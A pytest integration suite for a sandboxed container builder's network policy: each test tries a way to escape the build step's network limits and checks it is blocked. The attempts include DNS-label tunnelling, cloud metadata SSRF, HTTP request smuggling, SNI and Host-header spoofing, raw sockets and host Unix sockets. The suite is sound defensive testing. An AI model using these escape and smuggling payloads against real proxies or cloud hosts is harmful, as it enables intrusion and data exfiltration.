"""What the RUNs of a whole build try to reach. The oracles are sockets and a name server of the host; each attack is also
seen to succeed, by the same oracle, where the policy takes its defence away."""

from __future__ import annotations

import shutil
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.integration.registry_fixtures import running_registry
from tests.support.builder import run_tool
from tests.support.images import debian_layout
from tests.support.outside import Listening, Outside, outside_world

pytestmark = pytest.mark.root

NAME, OTHER, TUNNEL = "files.example.com", "other.example.com", "c2vjcmv0.tunnel.example.com"
LOOPBACK = '[network]\nranges = ["127.0.0.0/8"]\n'
HOST = "[network]\nhost_network = true\n"


class Scene(NamedTuple):
    """A world, and a context whose base image has a busybox at /bin."""

    outside: Outside
    context: Path
    base: str

    def run(self, script: str, policy: str, *options: str, allow: str = f'["{NAME}"]') -> str:
        """Build one RUN of `script`, whose status is ignored; gives what it printed."""
        text = policy if "host_network" in policy else f"{policy}[network.run]\nallow = {allow}\n"
        return self.build(f"RUN {{ {script} ; }} 2>&1 || true\n", text, *options)

    def build(self, steps: str, policy: str, *options: str) -> str:
        (self.context / "Dockerfile").write_text(f"FROM {self.base}\nCOPY busybox /bin/busybox\n{steps}")
        file = self.outside.policy(policy)
        return self.outside.builder.run("--no-cache", "--policy-file", file, *options, self.context).log

    def reached(self, host: str = "") -> list[str]:
        """Requests that the world's servers got, for `host` or for any."""
        return [line for _, line, name in self.outside.world.requests if not host or name.partition(":")[0] == host]


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    folder = tmp_path_factory.mktemp("outside")
    with (
        running_registry(tmp_path_factory.mktemp("registry")) as registry,
        outside_world(folder, NAME, OTHER, TUNNEL) as outside,
    ):
        base = f"{registry.host}/debian:12"
        run_tool("skopeo", "copy", "--dest-tls-verify=false", f"oci:{debian_layout()}:latest", f"docker://{base}")
        program = shutil.which("busybox")
        assert program, "busybox-static is not installed"
        context = outside.builder.context({"busybox": Path(program).read_bytes()})
        yield Scene(outside, context, base)


@pytest.fixture(autouse=True)
def _fresh(scene: Scene) -> None:
    scene.outside.world.requests.clear()
    scene.outside.resolver.table(dict.fromkeys((NAME, OTHER, TUNNEL), scene.outside.world.address))


def test_an_honest_step_reaches_its_name_by_http_and_tls(scene: Scene) -> None:
    tls = f"(printf 'GET /b HTTP/1.0\\r\\nHost: {NAME}\\r\\n\\r\\n'; sleep 1) | openssl s_client -quiet -connect {NAME}:443"
    log = scene.run(f"busybox wget -qO- http://{NAME}/a; {tls}", LOOPBACK)
    assert "hello from /a" in log
    assert "hello from /b" in log


@pytest.mark.parametrize("family", ["127.0.0.1", "::1"])
def test_an_address_literal_reaches_nothing(scene: Scene, family: str) -> None:
    with Listening(family) as oracle:
        kind = "INET6" if ":" in family else "INET"
        pack = f"pack_sockaddr_in6({oracle.port}, inet_pton(AF_INET6, '::1'))"
        if kind == "INET":
            pack = f"pack_sockaddr_in({oracle.port}, inet_aton('127.0.0.1'))"
        script = f'perl -MSocket=:all -e "socket(S, PF_{kind}, SOCK_STREAM, 0); connect(S, {pack}) and print qq(in\\\\n)"'
        scene.run(script, LOOPBACK)
        assert oracle.heard == 0
        scene.run(script, HOST, "--network=host")
        assert oracle.heard == 1


def test_datagrams_reach_nobody(scene: Scene) -> None:
    with Listening("127.0.0.1", kind=socket.SOCK_DGRAM) as oracle:
        script = f"bash -c 'echo x > /dev/udp/127.0.0.1/{oracle.port}'"
        scene.run(script, LOOPBACK)
        assert oracle.heard == 0
        scene.run(script, HOST, "--network=host")
        assert oracle.heard == 1


def test_raw_packets_and_pings_are_refused_by_the_kernel(scene: Scene) -> None:
    raw = "perl -MSocket=:all -e 'socket(S, PF_INET, SOCK_RAW, 1) or print qq(refused: $!\\n)'"
    packet = "perl -MSocket=:all -e 'socket(S, 17, SOCK_RAW, 768) or print qq(refused: $!\\n)'"
    for policy, options in ((LOOPBACK, ()), (HOST, ("--network=host",))):
        log = scene.run(f"{raw}; {packet}; busybox ping -c1 -W1 {scene.outside.world.address}", policy, *options)
        assert len([line for line in log.splitlines() if " refused: " in line]) == 2
        assert "bytes from" not in log


def test_another_name_server_hears_nothing(scene: Scene) -> None:
    name = "asked-directly.example.com"
    script = f"busybox nslookup {name} {scene.outside.resolver.address}"
    scene.run(script, LOOPBACK)
    assert name not in scene.outside.resolver.queries()
    scene.run(script, HOST, "--network=host")
    assert name in scene.outside.resolver.queries()


def test_labels_of_names_carry_nothing_out(scene: Scene) -> None:
    script = f"busybox nslookup {TUNNEL}; busybox wget -qO- http://{TUNNEL}/"
    scene.run(script, LOOPBACK)
    assert TUNNEL not in scene.outside.resolver.queries()
    scene.run(script, LOOPBACK, allow='["*.tunnel.example.com"]')
    assert TUNNEL in scene.outside.resolver.queries()


@pytest.mark.parametrize("way", ["direct", "proxy"])
def test_a_name_that_resolves_to_loopback_is_refused(scene: Scene, way: str) -> None:
    proxy = "http_proxy=http://127.0.0.1:3128 " if way == "proxy" else ""
    script = f"{proxy}busybox wget -qO- http://{NAME}/in"
    scene.run(script, "")
    assert scene.reached() == []
    scene.run(script, LOOPBACK)
    assert len(scene.reached(NAME)) == 1


def test_a_metadata_address_is_refused_with_every_range_open(scene: Scene, tmp_path: Path) -> None:
    scene.outside.resolver.table({NAME: "169.254.169.254"})
    log = tmp_path / "audit"
    wide = '[network]\nranges = ["169.254.0.0/16", "127.0.0.0/8"]\n'
    scene.run(f"busybox wget -qO- http://{NAME}/latest/", wide, "--audit-log", str(log))
    assert "metadata" in log.read_text()


def test_another_tls_name_on_an_allowed_connection_is_cut(scene: Scene) -> None:
    ask = f"(printf 'GET /in HTTP/1.0\\r\\nHost: {OTHER}\\r\\n\\r\\n'; sleep 1)"
    script = f"{ask} | openssl s_client -quiet -servername {OTHER} -connect {NAME}:443"
    scene.run(script, LOOPBACK)
    assert scene.reached() == []
    scene.run(script, LOOPBACK, allow=f'[{{ host = "{NAME}", inspect = false }}]')
    assert len(scene.reached(OTHER)) == 1


def test_another_host_on_an_allowed_connection_is_cut(scene: Scene) -> None:
    script = f"printf 'GET /in HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n' | busybox nc -w 2 {NAME} 80"
    scene.run(script, LOOPBACK)
    assert scene.reached() == []
    scene.run(script, LOOPBACK, allow=f'[{{ host = "{NAME}", inspect = false }}]')
    assert len(scene.reached(OTHER)) == 1


def test_a_redirect_to_a_refused_host_ends_there(scene: Scene) -> None:
    script = f"busybox wget -qO- http://{NAME}/redirect/{OTHER}/in"
    scene.run(script, LOOPBACK)
    assert scene.reached(OTHER) == []
    scene.run(script, LOOPBACK, allow=f'["{NAME}", "{OTHER}"]')
    assert len(scene.reached(OTHER)) == 1


@pytest.mark.parametrize(
    "request_text",
    [
        "GET http://{name}/a HTTP/1.1|Host: {other}||",
        "GET http://{name}/a HTTP/1.1|Host: {name}|Content-Length: 5|Transfer-Encoding: chunked||0||{hidden}",
        "GET http://{name}@{other}/in HTTP/1.1|Host: {other}||",
        "CONNECT {other}:80 HTTP/1.1|Host: {name}:80||",
        "GET http://{name}/a HTTP/1.1|Host: {name}||{hidden}",
    ],
)
def test_the_proxy_is_not_tricked(scene: Scene, request_text: str) -> None:
    hidden = f"GET http://{OTHER}/in HTTP/1.1|Host: {OTHER}||"
    text = request_text.format(name=NAME, other=OTHER, hidden=hidden).replace("|", "\\r\\n")
    scene.run(f"printf '{text}' | busybox nc -w 2 127.0.0.1 3128", LOOPBACK)
    assert scene.reached(OTHER) == []


def test_abstract_sockets_of_the_host_are_out_of_reach(scene: Scene) -> None:
    with socket.socket(socket.AF_UNIX) as oracle:
        oracle.bind("\0sandboxbuild-attack")
        oracle.listen(4)
        oracle.settimeout(0.5)
        address = "pack('Sa*', 1, qq(\\0sandboxbuild-attack))"
        script = f'perl -MSocket=:all -e "socket(S, PF_UNIX, SOCK_STREAM, 0); connect(S, {address})"'
        scene.run(script, LOOPBACK)
        with pytest.raises(TimeoutError):
            oracle.accept()
        scene.run(script, HOST, "--network=host")
        oracle.accept()[0].close()


def test_the_uplink_of_the_executor_is_not_in_a_step(scene: Scene) -> None:
    log = scene.run("find / -xdev -type s; ls -la /sandboxbuild; cat /proc/net/unix; echo searched", LOOPBACK)
    shown = [line.split(" ", 2)[-1] for line in log.splitlines()]
    assert "searched" in shown
    assert [line for line in shown if "uplink" in line or line.endswith("/socket")] == []


def test_a_step_can_not_use_the_names_of_another(scene: Scene) -> None:
    rule = f'{LOOPBACK}[[network.rule]]\nrun = "*first*"\nallow = ["{NAME}"]\n'
    first = f"RUN echo first && busybox wget -qO- http://{NAME}/first\n"
    ask = f"printf 'GET /in HTTP/1.0\\r\\nHost: {NAME}\\r\\n\\r\\n'"
    second = (
        f"RUN {{ for n in 2 3 4; do {ask} | busybox nc -w 1 198.18.0.$n 80; done;"
        f" busybox wget -qO- http://{NAME}/in ; }} 2>&1 || true\n"
    )
    scene.build(first + second, rule)
    assert [line.split()[1] for line in scene.reached(NAME)] == ["/first"]
    scene.build(first + second.replace("RUN {", "RUN : first; {"), rule)
    assert "/in" in [line.split()[1] for line in scene.reached(NAME)]


def test_no_network_means_no_name_and_no_proxy(scene: Scene) -> None:
    script = f"busybox wget -qO- http://{NAME}/in; http_proxy=http://127.0.0.1:3128 busybox wget -qO- http://{NAME}"
    scene.build(f"RUN --network=none {{ {script} ; }} 2>&1 || true\n", f'{LOOPBACK}[network.run]\nallow = ["{NAME}"]\n')
    assert scene.reached() == []
